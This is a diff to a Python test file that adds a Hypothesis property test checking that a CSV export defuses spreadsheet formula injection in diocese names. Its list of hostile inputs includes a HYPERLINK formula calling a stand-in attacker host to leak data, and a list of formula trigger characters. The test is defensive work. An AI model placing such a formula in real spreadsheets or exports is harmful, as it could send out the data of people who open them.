@@ -5,11 +5,14 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from portal.trends import exports
-from portal.trends.derived import Column, TrendTable, View
+from portal.trends.derived import Column, DioceseRows, TrendTable, View, table_build
 from tests.trends.conftest import catalog_series
 from tests.trends.test_charts import figure_of
 
@@ -100,3 +103,50 @@ def test_a_name_that_looks_like_a_formula_is_not_one_in_the_csv():
     table = TrendTable(view=View.RAW, metrics=["parishes"], years=[2000], columns=[column])
     header = next(csv.reader(io.StringIO(exports.csv_text(table))))
     assert header[1] == "'=HYPERLINK(1) — Parishes (parishes)"
+
+
+# --- Hostile diocese names (upstream's text) in the CSV --------------------------------------
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs as a formula
+NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
+HOSTILE_PIECES = ["=", "+", "-", "@", "\t", "\r", "\n", "\r\n", ",", '"', "'", ";", "#", " ",
+                  '=HYPERLINK("https://evil.example/?leak")', "\u2028", "é", "😀"]  # fmt: skip
+HOSTILE_NAMES = st.lists(
+    st.one_of(st.sampled_from(HOSTILE_PIECES), st.text(max_size=4)), min_size=1, max_size=8
+).map("".join)
+
+
+def restore(cell: str) -> str:
+    """Undo the apostrophe: one off a cell whose leading apostrophes precede a formula start."""
+    return cell[1:] if cell.startswith("'") and cell.lstrip("'").startswith(TRIGGERS) else cell
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    names=st.lists(HOSTILE_NAMES, min_size=1, max_size=3),
+    view=st.sampled_from(list(View)),
+    figures=st.lists(st.none() | st.integers(0, 10**7), min_size=1, max_size=12),
+)
+def test_csv_defuses_every_heading_and_keeps_one_row_a_year(names, view, figures):
+    dioceses = [
+        DioceseRows(
+            source_code=f"d{index}", diocese_name=name,
+            rows=[{"year": 2000 + i, "catholics": value, "baptisms": value,
+                   "total_population": value} for i, value in enumerate(figures)],
+        )
+        for index, name in enumerate(names)
+    ]  # fmt: skip
+    table = table_build(dioceses, metrics=["catholics", "baptisms"], view=view)
+    text = exports.csv_text(table)
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert len(rows) == 1 + len(table.years)  # the header, one row a year: none split, none merged
+    assert {len(row) for row in rows} == {1 + len(table.columns)}
+    live = [cell for row in rows for cell in row
+            if cell.startswith(TRIGGERS) and not NUMBER.fullmatch(cell)]  # fmt: skip
+    assert live == []  # a negative change is a number; text never starts a formula
+    headings = [exports.column_heading(table, i) for i in range(len(table.columns))]
+    assert [restore(cell) for cell in rows[0][1:]] == headings
+    for heading, column in zip(rows[0][1:], table.columns, strict=True):
+        assert restore(heading).startswith(f"{column.diocese_name} — ")
+    for (year, values), row in zip(table.rows, rows[1:], strict=True):
+        assert row == [str(year), *("" if v is None else str(v) for v in values)]
